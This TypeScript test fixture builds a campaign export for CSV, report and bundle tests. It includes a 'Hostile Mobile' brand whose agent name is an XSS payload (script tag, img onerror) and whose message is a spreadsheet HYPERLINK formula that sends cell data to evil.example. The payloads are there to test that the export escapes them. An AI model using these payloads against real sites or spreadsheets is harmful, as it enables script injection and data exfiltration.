// A campaign ready to export, for the CSV, report and bundle tests: the three brands of the issue
// (answers in time, late, never), a brand added mid-campaign on protocol version 2 whose agent's name
// and words are hostile (markup, a spreadsheet formula), and a brand whose case was deleted. Each case's
// events are sealed into their chain, and the prompt brand's case holds a screenshot.
import type { Campaign } from "../../../src/domain/campaigns/campaign";
import { buildCaseFile } from "../../../src/domain/dossier/case-file";
import type { Signer } from "../../../src/domain/dossier/signer";
import type { EvidenceEvent } from "../../../src/domain/evidence";
import { sealChain } from "../../../src/domain/integrity/event-hash";
import { sha256Hex } from "../../../src/domain/integrity/sha256";
import type { CampaignCaseExport } from "../../../src/export/campaign-bundle";
import { artifactPath } from "../../../src/export/dossier-bundle";
import { screenshotPng, testKey, type TestKey } from "../../fixtures/dossier/sample-case";
import { BrandCase, campaignBrand, DAY, HOUR, moment, PARIS, protocol, replyWithin, T0, threeBrands } from "../domain/campaigns/comparison-fixtures";

export const HOSTILE_NAME = `<script>alert("agent")</script><img src=x onerror=alert(1)>`;
export const FORMULA = `=HYPERLINK("http://evil.example/?"&A1,"click")`;
export const CREATED = moment(T0 + 10 * DAY);

export interface CampaignExportFixture {
  campaign: Campaign;
  cases: Map<string, CampaignCaseExport>;
  key: TestKey;
  /** Event ids by brand and role. */
  ids: Record<string, Record<string, string>>;
}

async function exported(c: BrandCase, signer: Signer, withScreenshot = false): Promise<CampaignCaseExport> {
  const artifacts: CampaignCaseExport["artifacts"][number][] = [];
  const events: EvidenceEvent[] = c.events.map((s) => s.event);
  if (withScreenshot) {
    const bytes = screenshotPng(3);
    const sha256 = await sha256Hex(bytes);
    artifacts.push({ sha256, mediaType: "image/png", size: bytes.length, path: artifactPath(sha256, "image/png"), bytes });
    const last = events[events.length - 1] as EvidenceEvent;
    events.push({ ...last, id: `${c.caseId}-shot`, kind: "attachment", payload: { fileName: "confirmation.png", mediaType: "image/png", size: bytes.length, sha256 } } as EvidenceEvent);
  }
  const sealed = await sealChain(events);
  const caseFile = buildCaseFile({
    theCase: c.theCase(),
    events: sealed,
    exported: { at: CREATED.at, timeZone: PARIS, by: { extensionVersion: "0.1.0", browser: "chrome", browserVersion: "140" } },
    signer,
    artifacts: artifacts.map(({ sha256, mediaType, size, path }) => ({ sha256, mediaType, size, path })),
  });
  return { caseFile: caseFile as CampaignCaseExport["caseFile"], artifacts };
}

export async function campaignExport(key?: TestKey): Promise<CampaignExportFixture> {
  const signingKey = key ?? (await testKey());
  const { campaign: three, ids } = threeBrands();
  // Rebuild the three cases to seal them (threeBrands gives them unsealed).
  const built = threeBrandCases();
  const hostile = new BrandCase("case-hostile-1", "Hostile Mobile");
  ids.hostile = {};
  ids.hostile.attempt = hostile.attempt(T0 + 3 * DAY);
  ids.hostile.response = hostile.response(T0 + 3 * DAY + 5 * HOUR, { from: `${FORMULA} <agent@hostile.test>`, text: HOSTILE_NAME });
  hostile.chat("conv-h", "person", "Hello?", T0 + 3 * DAY + 6 * HOUR);
  hostile.chat("conv-h", "agent", FORMULA, T0 + 3 * DAY + 6 * HOUR + 60_000, HOSTILE_NAME);
  const v2 = protocol({ version: 2, written: moment(T0 + 2 * DAY), change: "Brands answer on weekends too: 24 hours.", promise: { text: "We reply within 24 hours.", reading: replyWithin(24) } });
  const campaign: Campaign = {
    ...three,
    protocols: [protocol(), v2],
    brands: [
      ...three.brands,
      campaignBrand("Hostile Mobile", hostile.caseId, { added: moment(T0 + 2 * DAY + HOUR), addedAfterStart: true, protocolVersion: 2 }),
      campaignBrand("Gone Fibre", "case-gone-0001", { caseDeleted: moment(T0 + 5 * DAY) }),
    ],
  };
  const cases = new Map<string, CampaignCaseExport>([
    ["case-prompt-01", await exported(built.prompt, signingKey.signer, true)],
    ["case-slow-0001", await exported(built.slow, signingKey.signer)],
    ["case-mute-0001", await exported(built.mute, signingKey.signer)],
    [hostile.caseId, await exported(hostile, signingKey.signer)],
  ]);
  return { campaign, cases, key: signingKey, ids };
}

/** The same three cases as threeBrands(), as builders. */
function threeBrandCases(): { prompt: BrandCase; slow: BrandCase; mute: BrandCase } {
  const { cases } = threeBrands();
  const rebuild = (caseId: string, name: string) => {
    const c = new BrandCase(caseId, name);
    c.events.push(...(cases.get(caseId)?.events ?? []));
    return c;
  };
  return { prompt: rebuild("case-prompt-01", "Prompt Telecom"), slow: rebuild("case-slow-0001", "Slow Telecom"), mute: rebuild("case-mute-0001", "Mute Telecom") };
}
